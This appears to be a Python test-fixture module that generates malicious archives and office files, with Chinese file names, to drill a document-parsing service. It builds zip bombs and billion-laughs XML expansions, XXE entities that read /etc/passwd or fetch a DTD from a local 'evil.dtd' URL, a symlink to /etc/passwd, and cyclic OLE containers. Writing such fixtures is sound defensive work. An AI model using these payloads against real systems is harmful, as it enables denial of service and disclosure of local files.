"""Archives and office files made to harm: for the tests and the drill."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

MIB = 1024 * 1024
POLICY = "云泽市高龄津贴办法\n第一条 为了老人。\n第二条 本办法自2026年1月1日起施行。\n"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
    '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-'
    'officedocument.{kind}.main+xml"/></Types>'
)
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/{kind}" Target="{part}"/></Relationships>'
)
LAUGHS = (
    "<!DOCTYPE lolz [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
SQUARE = f"<!DOCTYPE lolz [<!ENTITY a0 '{'x' * 60_000}'>]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY a0 SYSTEM "file:///etc/passwd">]>'
FETCH = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p"> %p;]>'


def pack(*members: tuple[str | zipfile.ZipInfo, bytes | str], stored: bool = False):
    """Return a zip of the members."""
    buffer = BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content, compress_type=method)
    return buffer.getvalue()


def docx(body: str, *more, before: str = "", types: str | None = None) -> bytes:
    """Return a Word file of the XML of a body."""
    part = "word/document.xml"
    kind = "wordprocessingml.document"
    text = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return pack(
        ("[Content_Types].xml", types or _TYPES.format(part=part, kind=kind)),
        ("_rels/.rels", _RELS.format(part=part, kind="officeDocument")),
        (part, f'<?xml version="1.0"?>{before}{text}'),
        *more,
    )


def xlsx(
    rows: str, *more, before: str = "", strings: str = "", tail: str = ""
) -> bytes:
    """Return a workbook with one sheet of the XML of rows."""
    part = "xl/workbook.xml"
    sheet, shared = (
        _RELS.format(kind=kind, part=target).replace("rId1", number)
        for kind, target, number in (
            ("worksheet", "worksheets/sheet1.xml", "rId1"),
            ("sharedStrings", "sharedStrings.xml", "rId2"),
        )
    )
    inner = shared[shared.index("<Relationship Id") :]
    both = sheet.replace("</Relationships>", inner)
    return pack(
        ("[Content_Types].xml", _TYPES.format(part=part, kind="spreadsheetml.sheet")),
        ("_rels/.rels", _RELS.format(part=part, kind="officeDocument")),
        (
            part,
            f'<workbook xmlns="{S}" xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1"'
            ' r:id="rId1"/></sheets></workbook>',
        ),
        ("xl/_rels/workbook.xml.rels", both),
        (
            "xl/worksheets/sheet1.xml",
            f'{before}<worksheet xmlns="{S}"><sheetData>{rows}</sheetData></worksheet>',
        ),
        ("xl/sharedStrings.xml", strings or f'<sst xmlns="{S}"></sst>'),
        *more,
    )


def p(text: str) -> str:
    """Return a paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def declare(data: bytes, size: int, *, at: int = 24) -> bytes:
    """Return the zip with another figure in its first directory entry."""
    place = data.index(b"PK\x01\x02") + at
    return data[:place] + struct.pack("<I", size) + data[place + 4 :]


def flag(data: bytes, bits: int, *, method: int | None = None) -> bytes:
    """Return the zip with flags, or another method, on all members."""
    out = bytearray(data)
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + flags] |= bits & 0xFF
            out[place + flags + 1] |= bits >> 8
            if method is not None:
                struct.pack_into("<H", out, place + flags + 2, method)
            place = out.find(mark, place + 4)
    return bytes(out)


def overlapping(count: int, size: int) -> bytes:
    """Return a zip whose members all share one kernel of deflated zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = packer.compress(bytes(size)) + packer.flush()
    crc = zlib.crc32(bytes(size))
    name = b"a.txt"
    local = struct.pack(
        "<IHHHHHIIIHH",
        0x04034B50, 20, 0, 8, 0, 33, crc, len(kernel), size, len(name), 0,
    )  # fmt: skip
    body = local + name + kernel
    directory = b"".join(
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            33,
            crc,
            len(kernel),
            size,
            len(each),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + each
        for each in (b"%05d" % number for number in range(count))
    )
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), 0
    )
    return body + directory + end


def nested(depth: int, content: bytes = POLICY.encode()) -> bytes:
    """Return a zip in a zip in a zip."""
    data = pack(("a.txt", content))
    for level in range(depth - 1):
        data = pack((f"{level}.zip", data), stored=True)
    return data


def symlink() -> bytes:
    """Return a zip with a link to a file of the machine."""
    info = zipfile.ZipInfo("a.txt")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return pack((info, "/etc/passwd"))


def cyclic_ole() -> bytes:
    """Return an old Office container whose sectors lead in a circle."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 2, 1, 0xFFFFFFFE, 0)
    head += struct.pack("<I", 0) + b"\xff" * (4 * 108)
    table = struct.pack("<128I", *((n + 1) % 4 for n in range(128)))
    entry = "Workbook".encode("utf-16-le").ljust(64, b"\0")
    entry += struct.pack("<HBB", 18, 2, 1) + struct.pack("<III", 1, 1, 1) + bytes(36)
    entry += struct.pack("<IQ", 1, 1 << 40)
    return head + table + entry * 4 + bytes(2048)


def _table(rows: int, columns: int) -> str:
    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * columns + "</w:tr>"
    return "<w:tbl>" + row * rows + "</w:tbl>"


def _cells(rows: int, columns: int) -> str:
    return ("<row>" + "<c><v>1</v></c>" * columns + "</row>") * rows


def _laughing(kind: str, before: str, at: str) -> bytes:
    """Return an office file with a document type in the given part."""
    parts = {
        "docx": ("word/document.xml", "word/styles.xml"),
        "odt": ("content.xml", "styles.xml"),
        "ofd": ("OFD.xml", "Doc_0/Document.xml"),
        "pptx": ("ppt/presentation.xml", "ppt/slides/slide1.xml"),
        "xlsx": ("xl/workbook.xml", "xl/sharedStrings.xml"),
    }[kind]
    mimetype = "application/vnd.oasis.opendocument.text" if kind == "odt" else "x"
    texts = dict.fromkeys((*parts, "[Content_Types].xml"), "<a>第一条</a>")
    texts[at or parts[0]] = f"{before}<a>第一条 &a0;</a>"
    return pack(("mimetype", mimetype), *texts.items())


def _noisy(cell: str, thousands: int) -> str:
    """Return cells by the thousand that pack badly: no ratio gives them away."""
    noise = random.Random(7)
    cells = (cell % noise.randbytes(8).hex() for _ in range(1000 * thousands))
    return "".join(cells)


def _picture(width: int, height: int) -> bytes:
    """Return a PNG of one colour that unpacks to gigabytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(40 * MIB), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", body)
        + chunk(b"IEND", b"")
    )


#: What each one is called, and how it is made; made when wanted, they are large.
MAKERS: dict[str, Callable[[], bytes]] = {
    # Archives.
    "声明两千兆.docx": lambda: declare(docx(p("x" * 100)), 2**31),
    "声明很小.docx": lambda: declare(docx(p("甲" * 9000)), 10),
    "声明四千兆.zip": lambda: declare(pack(("a.txt", POLICY)), 2**32 - 2),
    "声明很小.zip": lambda: declare(pack(("a.txt", POLICY * 900)), 10),
    "套三层.zip": lambda: nested(3),
    "套二十层.zip": lambda: nested(20),
    "套里是炸弹.zip": lambda: nested(2, bytes(30 * MIB)),
    "扇形.zip": lambda: pack(
        *(
            (f"{n}.zip", pack(*((f"{m}.zip", nested(2)) for m in range(8))))
            for n in range(8)
        )
    ),
    "重叠.zip": lambda: overlapping(250, 2 * MIB),
    "重叠小.zip": lambda: overlapping(2, 100),
    "全零.zip": lambda: pack(("a.txt", bytes(60 * MIB))),
    "全零.docx": lambda: docx(p("x"), ("word/media/a.png", bytes(90 * MIB))),
    "分开的零.zip": lambda: pack(*((f"{n}.txt", bytes(3 * MIB)) for n in range(120))),
    "三万个空文件.zip": lambda: pack(*((f"{n}.txt", b"") for n in range(30_000))),
    "目录很长.zip": lambda: pack(*((f"{n:060d}" * 4, b"") for n in range(30_000))),
    "有密码.zip": lambda: flag(pack(("a.txt", POLICY)), 1),
    "强加密.zip": lambda: flag(pack(("a.txt", POLICY)), 0x41, method=99),
    "有密码.docx": lambda: flag(docx(p("x")), 1),
    "少见压缩.zip": lambda: flag(pack(("a.txt", POLICY)), 0, method=98),
    "少见压缩.docx": lambda: flag(docx(p("x")), 0, method=9),
    "链接.zip": symlink,
    "空.zip": lambda: pack(),
    "只有文件夹.zip": lambda: pack(("甲/", b""), ("甲/乙/", b"")),
    "断开.zip": lambda: pack(("a.txt", POLICY * 50))[:-30],
    "断开一半.zip": lambda: nested(1)[:60],
    "目录在外面.zip": lambda: declare(nested(1), 2**30, at=42),
    "目录写坏.zip": lambda: nested(1).replace(b"PK\x01\x02", b"PK\x09\x09"),
    "内容写坏.zip": lambda: pack(("a.txt", POLICY), stored=True).replace(
        "第一条".encode(), "第七条".encode()
    ),
    "名称编码写坏.zip": lambda: flag(pack(("aaaa.txt", POLICY)), 0x800).replace(
        b"aaaa.txt", b"\xff\xfe\xff\xfe.txt"
    ),
    "压缩.rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(500),
    "压缩.7z": lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(500),
    "压缩.tar.gz": lambda: zlib.compress(bytes(50 * MIB), wbits=31),
    "压缩.tar": lambda: bytes(257) + b"ustar\x0000" + bytes(1000),
    # Office files.
    "大笑.docx": lambda: docx(p("&a9;"), before=LAUGHS),
    "大笑藏在注释后.docx": lambda: docx(p("&a9;"), before=f"<!-- <a/> -->{LAUGHS}"),
    "平方.docx": lambda: docx(p("&a0;" * 20_000), before=SQUARE),
    "外来文件.docx": lambda: docx(p("第一条 &a0;"), before=OUTSIDE),
    "外来网址.docx": lambda: docx(p("第一条"), before=FETCH),
    "外来参数.docx": lambda: docx(p("第一条"), before=PARAMETER),
    "大笑样式.docx": lambda: _laughing("docx", LAUGHS, "word/styles.xml"),
    "大笑目录.docx": lambda: _laughing("docx", LAUGHS, "[Content_Types].xml"),
    "大笑.odt": lambda: _laughing("odt", LAUGHS, ""),
    "外来.odt": lambda: _laughing("odt", OUTSIDE, "styles.xml"),
    "大笑.ofd": lambda: _laughing("ofd", LAUGHS, ""),
    "外来.ofd": lambda: _laughing("ofd", OUTSIDE, "Doc_0/Document.xml"),
    "大笑.pptx": lambda: _laughing("pptx", LAUGHS, "ppt/slides/slide1.xml"),
    "大笑.xlsx": lambda: xlsx("", strings=f"{LAUGHS}<sst>&a9;</sst>"),
    "外来.xlsx": lambda: xlsx("<row>&a0;</row>", before=OUTSIDE),
    "千万格.docx": lambda: docx(_table(10_000, 1000)),
    "一亿字.docx": lambda: docx(p("甲" * 33 * MIB)),
    "套表格.docx": lambda: docx(
        "<w:tbl><w:tr><w:tc>" * 20_000 + "</w:tc></w:tr></w:tbl>" * 20_000
    ),
    "套控件.docx": lambda: docx(
        "<w:sdt><w:sdtContent>" * 90_000 + "</w:sdtContent></w:sdt>" * 90_000
    ),
    "千万格.xlsx": lambda: xlsx(_cells(10_000, 1000)),
    "最远的格.xlsx": lambda: xlsx(
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    ),
    "字串很多.xlsx": lambda: xlsx(
        "", strings=f'<sst xmlns="{S}">' + "<si><t>甲</t></si>" * 9_000_000 + "</sst>"
    ),
    "带噪声的格.docx": lambda: docx(_noisy("<w:p><w:r><w:t>%s</w:t></w:r></w:p>", 900)),
    "带噪声的格.xlsx": lambda: xlsx(_noisy("<row><c><v>%s</v></c></row>", 3000)),
    "大图.png": lambda: _picture(60_000, 60_000),
    "不是表.xlsx": lambda: xlsx("</sheetData><oops>"),
    "转圈.xls": cyclic_ole,
    "转圈.doc": lambda: cyclic_ole().replace(
        "Workbook".encode("utf-16-le"), "WordDocu".encode("utf-16-le")
    ),
    "一格很大.csv": lambda: b'question,answer\n"' + b"a" * (40 * MIB) + b'",b\n',
    "标签很多.html": lambda: b"<html><body>" + b"<div>" * 1_000_000,
}

#: What fills memory or time to the limit: for the drill only.
SLOW = {"带噪声的格.docx", "带噪声的格.xlsx"}
